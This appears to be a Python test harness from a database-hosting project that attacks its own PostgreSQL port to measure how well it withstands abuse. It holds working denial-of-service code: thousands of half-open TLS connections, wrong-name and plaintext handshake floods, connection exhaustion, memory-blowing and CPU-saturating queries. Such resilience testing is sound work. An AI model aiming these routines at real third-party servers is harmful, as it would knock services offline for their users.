# Copyright: Infinite Databases contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""What a careless or hostile client does to the one port of all databases: `python attacks.py KIND`, a target as JSON on stdin.

A process of its own, of the lowest priority: the clients whose time is measured share its processors, and what is looked for is the
harm that it does by way of the server. Says "ready" once at it, goes on until stdin is closed (and five minutes at most), and ends
with one line: a JSON object of what it did.
"""

from __future__ import annotations

import json
import os
import selectors
import socket
import ssl
import struct
import sys
import threading
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import psycopg

HALF_OPEN = 2000
THREADS = 8
# Seconds between two attempts of one thread that is refused at once: 400 a second of all threads.
PAUSE = 0.02
MOST_SECONDS = 300
# https://www.postgresql.org/docs/current/protocol-message-formats.html: length, code.
SSL_REQUEST = struct.pack("!II", 8, 80877103)
Target = dict[str, Any]


def client_hello(name: str) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("no server answered")


class Attack:
    def __init__(self, target: Target) -> None:
        self.target = target
        self.address = (target["address"], target["port"])
        self.end = threading.Event()
        self.done: Counter[str] = Counter()

    def half_open(self) -> None:
        """2,000 connections that ask for TLS, say half of a ClientHello and then nothing; one that is closed is opened anew."""
        half = client_hello(self.target["host"])[:100]
        waiting = selectors.DefaultSelector()

        def open_one() -> None:
            connection = socket.create_connection(self.address, timeout=10)
            connection.sendall(SSL_REQUEST)
            waiting.register(connection, selectors.EVENT_READ)
            self.done["opened"] += 1

        for _number in range(HALF_OPEN):
            with suppress(OSError):
                open_one()
        print("ready", flush=True)
        while not self.end.is_set():
            for key, _events in waiting.select(timeout=0.2):
                connection = key.fileobj
                assert isinstance(connection, socket.socket)
                try:
                    said = connection.recv(1)
                    if said == b"S":
                        connection.sendall(half)
                        self.done["half hellos"] += 1
                        continue
                except OSError:
                    pass
                waiting.unregister(connection)
                connection.close()
                self.done["closed by Traefik"] += 1
                with suppress(OSError):
                    open_one()
        self.done["open in the end"] = len(waiting.get_map())

    def wrong_name(self) -> None:
        """TLS handshakes for names that are no database's."""
        context = ssl.create_default_context(cafile=self.target["ca"])

        def once() -> None:
            with socket.create_connection(self.address, timeout=10) as connection:
                connection.sendall(SSL_REQUEST)
                connection.recv(1)
                with context.wrap_socket(connection, server_hostname="nobody." + self.target["domain"]) as tls:
                    tls.sendall(b"\0")
                    tls.recv(1)

        self.repeat(once, pause=PAUSE)

    def plaintext(self) -> None:
        """A startup message without TLS."""
        body = struct.pack("!I", 196608) + b"user\0postgres\0\0"
        message = struct.pack("!I", len(body) + 4) + body

        def once() -> None:
            with socket.create_connection(self.address, timeout=10) as connection:
                connection.sendall(message)
                if not connection.recv(1):
                    raise ConnectionResetError

        self.repeat(once, pause=PAUSE)

    def out_of_memory(self) -> None:
        """A value larger than memory_max."""
        self.repeat(lambda: self.query("select length(repeat('x', 500000000))"), threads=1)

    def many_connections(self) -> None:
        """Sessions that are opened as quickly as they can be and kept, so that most are refused: there are only so many."""
        kept = threading.Semaphore(self.target["connections"])

        def once() -> None:
            connection = self.connect()
            self.done["sessions"] += 1
            if kept.acquire(blocking=False):
                sessions.append(connection)
            else:
                connection.close()

        sessions: list[psycopg.Connection[Any]] = []
        self.repeat(once)

    def processors(self) -> None:
        """More queries that only count than there are processors."""
        self.repeat(lambda: self.query("select count(*) from generate_series(1, 5000000)"), threads=2 * (os.cpu_count() or 1))

    def connect(self) -> psycopg.Connection[Any]:
        return psycopg.connect(**self.target["login"], autocommit=True, connect_timeout=10)

    def query(self, sql: str) -> None:
        with self.connect() as connection:
            connection.execute(sql.encode())

    def repeat(self, once: Callable[[], None], threads: int = THREADS, pause: float = 0) -> None:
        def run() -> None:
            while not self.end.wait(pause):
                try:
                    once()
                except (OSError, psycopg.Error):
                    self.done["refused"] += 1
                else:
                    self.done["served"] += 1

        workers = [threading.Thread(target=run) for _number in range(threads)]
        for worker in workers:
            worker.start()
        print("ready", flush=True)
        for worker in workers:
            worker.join()


def main() -> None:
    os.nice(19)
    attack = Attack(json.loads(sys.stdin.readline()))

    def wait() -> None:
        sys.stdin.read()
        attack.end.set()

    threading.Thread(target=wait, daemon=True).start()
    timer = threading.Timer(MOST_SECONDS, attack.end.set)
    timer.daemon = True
    timer.start()
    getattr(attack, sys.argv[1])()
    print(json.dumps(attack.done), flush=True)
    # Sessions that are open end with the process.
    os._exit(0)


if __name__ == "__main__":
    main()
